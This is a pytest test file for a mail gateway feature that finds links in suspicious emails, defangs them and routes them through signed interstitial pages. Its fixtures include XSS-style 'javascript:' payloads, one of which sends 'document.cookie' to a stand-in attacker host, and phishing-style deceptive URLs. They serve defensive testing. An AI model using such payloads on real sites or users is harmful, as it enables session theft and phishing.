"""Links in suspicious mail: found in text, defanged, and signed for the interstitial."""

from __future__ import annotations

from urllib.parse import parse_qs, urlsplit

import pytest

from trustdesk.mailgateway import links_view
from trustdesk.mailgateway.links_view import Link, defang, find, split


@pytest.mark.parametrize(("url", "shown"), [
    ("https://example.com", "hxxps://example[.]com"),
    ("https://example.com/path", "hxxps://example[.]com/path"),
    ("http://login.example.co.uk/a.b?c=d.e#f.g", "hxxp://login[.]example[.]co[.]uk/a.b?c=d.e#f.g"),
    ("HTTPS://Example.COM/", "hxxps://Example[.]COM/"),
    ("http://192.0.2.7:8080/x", "hxxp://192[.]0[.]2[.]7:8080/x"),
    ("https://paypal.com@evil.example/login", "hxxps://paypal[.]com@evil[.]example/login"),
    ("ftp://files.example.net/a", "fxp://files[.]example[.]net/a"),
    ("ms-word://host.example/doc", "ms-word://host[.]example/doc"),
    ("www.example.com/reset", "www[.]example[.]com/reset"),
    ("www.example.com:8080/a", "www[.]example[.]com:8080/a"),
    ("javascript:alert(document.cookie)", "javascript[:]alert(document.cookie)"),
    ("data:text/html;base64,PGI+", "data[:]text/html;base64,PGI+"),
    ("http://[2001:db8::1]/", "hxxp://[2001:db8::1]/"),
])
def test_defang(url, shown):
    assert defang(url) == shown


@pytest.mark.parametrize(("text", "urls"), [
    ("Sign in at https://example.com/login.", ["https://example.com/login"]),
    ("Reset (https://example.com/reset?t=1) now", ["https://example.com/reset?t=1"]),
    # intake writes an HTML link as "text (target)"
    ("Click here (javascript:alert(1))", ["javascript:alert(1)"]),
    ("See https://en.wikipedia.org/wiki/Foo_(bar), then", ["https://en.wikipedia.org/wiki/Foo_(bar)"]),
    ("two: http://a.example/x, https://b.example/y!", ["http://a.example/x",
                                                       "https://b.example/y"]),
    ("go to www.example.com/account?", ["www.example.com/account"]),
    ("\"https://example.com/q\" and <https://example.org>", ["https://example.com/q",
                                                             "https://example.org"]),
    ("Go to 'https://example.com/a' now", ["https://example.com/a"]),
    ("(javascript:location='https://evil.example/'+document.cookie)",
     ["javascript:location='https://evil.example/'+document.cookie"]),
    ("hxxps://already.example is counted too", ["hxxps://already.example"]),
    ("data:text/html,<b>x</b>", ["data:text/html"]),  # markup never belongs to it
])
def test_find(text, urls):
    found = find(text)
    assert [u for _, _, u in found] == urls
    assert all(text[s:e] == u for s, e, u in found)


@pytest.mark.parametrize("text", [
    "I forgot my password, please help.",
    "Metadata: none. Data: 3 rows. File: report.pdf",
    "Version 2.0 of the app, e.g. example.com is our shop",
    "http:// and www. alone",
    "mail me at ada@www.example.org",
])
def test_text_without_links_is_left_alone(text):
    assert find(text) == []


@pytest.mark.django_db  # the signature's key is the vault's
def test_split_links_each_url_to_a_signed_interstitial():
    text = "Dear customer,\nverify at https://paypal-secure.example/login?u=7 today.\n"
    pieces = split(text, ticket_id=12)
    assert pieces[0] == "Dear customer,\nverify at "
    assert pieces[2] == " today.\n"
    link = pieces[1]
    assert isinstance(link, Link)
    assert link.text == "hxxps://paypal-secure[.]example/login?u=7"
    assert link.target == link.title == "https://paypal-secure.example/login?u=7"
    href = urlsplit(link.href)
    assert href.path == "/links/"
    query = parse_qs(href.query)
    assert query["to"] == [link.target] and query["ticket"] == ["12"]
    assert len(query["sig"][0]) == links_view.SIG_CHARS
    # A bare www. host leads where a mail client would send it.
    assert split("www.example.com", ticket_id=12)[0].target == "http://www.example.com"


@pytest.mark.django_db
def test_the_signature_is_per_ticket_and_per_url():
    sig = {(t, u): parse_qs(urlsplit(links_view.interstitial_url(t, u)).query)["sig"][0]
           for t in (1, 2) for u in ("https://a.example/", "https://a.example/x")}
    assert len(set(sig.values())) == 4


@pytest.mark.django_db
def test_a_very_long_target_is_defanged_but_not_linked():
    url = "data:text/html;base64," + "A" * 5000
    (link,) = split(url, ticket_id=3)
    assert link.href == "" and link.text.startswith("data[:]text/html")
    assert len(link.title) < 400 and link.title.endswith("(5022 characters)")


def test_closing_brackets_are_trimmed_in_linear_time():
    text = "(http://a.example/x" + ")" * 200_000
    (_, end, url), = find(text)
    assert url == "http://a.example/x" and end == 19


@pytest.mark.django_db
def test_a_port_after_a_bare_www_host_is_no_scheme():
    (link,) = split("www.example.com:8080/a", ticket_id=1)
    assert link.target == "http://www.example.com:8080/a"
